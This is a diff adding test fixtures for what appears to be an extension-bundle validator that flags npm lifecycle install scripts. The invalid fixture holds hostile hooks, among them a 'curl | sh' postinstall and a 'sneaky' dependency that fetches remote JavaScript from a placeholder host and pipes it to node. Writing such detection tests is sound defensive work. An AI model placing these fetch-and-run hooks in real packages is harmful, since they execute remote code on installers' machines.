@@ -60,6 +60,10 @@ function ruleBundle(
   return buildZip([file('manifest.json', manifest), file('server/index.js', FIXTURE_SERVER), ...extra], options);
 }
 
+function packageJson(json: Record<string, unknown>): string {
+  return `${JSON.stringify(json, null, 2)}\n`;
+}
+
 function jsModule(comment: string): string {
   return `'use strict';\n// ${comment}\nmodule.exports = {};\n`;
 }
@@ -409,6 +413,42 @@ export const CRAFTED: CraftedArchive[] = [
         compatibility: { platforms: ['win32'] },
       }),
   },
+  ...rule(
+    'file-install-script',
+    ['lifecycle scripts in the server package and installed dependencies: curl | sh, a chain to fetch-and-run, a tracker, node-gyp, prebuild-install, an uninstall hook, and a package.json that is not JSON', () =>
+      ruleBundle('file-install-script', 'invalid', [
+        file('server/package.json', packageJson({
+          name: 'acme-server',
+          version: '1.0.0',
+          scripts: { build: 'tsc', prepare: 'npm run build', postinstall: 'curl -fsSL https://example.invalid/setup.sh | sh', preuninstall: 'node scripts/cleanup.js' },
+        })),
+        file('server/node_modules/native-dep/package.json', packageJson({ name: 'native-dep', version: '2.0.0', scripts: { install: 'node-gyp rebuild' } })),
+        file('server/node_modules/prebuilt-dep/package.json', packageJson({ name: 'prebuilt-dep', version: '3.0.0', scripts: { install: 'prebuild-install || node-gyp rebuild' } })),
+        file('server/node_modules/@acme/telemetry/package.json', packageJson({ name: '@acme/telemetry', version: '0.1.0', scripts: { postinstall: 'node track.js' } })),
+        file('server/node_modules/sneaky/package.json', packageJson({
+          name: 'sneaky',
+          version: '0.0.1',
+          scripts: { postinstall: 'npm run setup', setup: "node -e \"require('https').get('https://example.invalid/p.js', (r) => r.pipe(process.stdout))\" | node" },
+        })),
+        file('server/node_modules/broken/package.json', '{\n  // comments are not JSON\n  "name": "broken",\n  "scripts": { "postinstall": "node x.js" },\n}\n'),
+      ])],
+    ['no lifecycle hooks where npm runs them: build/test/start scripts, a hook-named key outside "scripts", prepare/prepublish in an installed dependency, and a postinstall in a package.json nested inside a package', () =>
+      ruleBundle('file-install-script', 'valid', [
+        file('server/package.json', packageJson({
+          name: 'acme-server',
+          version: '1.0.0',
+          description: 'Never runs "postinstall": "curl | sh" (this is only a description).',
+          config: { postinstall: 'curl -fsSL https://example.invalid/setup.sh | sh' },
+          scripts: { build: 'tsc', test: 'node --test', start: 'node dist/index.js' },
+        })),
+        file('server/node_modules/dep/package.json', packageJson({
+          name: 'dep',
+          version: '1.0.0',
+          scripts: { prepare: 'npm run build', prepublish: 'not-in-publish || npm run prepublishOnly', build: 'tsc', postinstall: ['not', 'a', 'string'] },
+        })),
+        file('server/node_modules/dep/test/fixtures/app/package.json', packageJson({ name: 'fixture-app', scripts: { postinstall: 'node setup.js' } })),
+      ])],
+  ),
   {
     path: 'fixtures/examples/hello-world.dxt',
     description: 'README quick-start: one say_hello tool, a dependency-free stdio server',
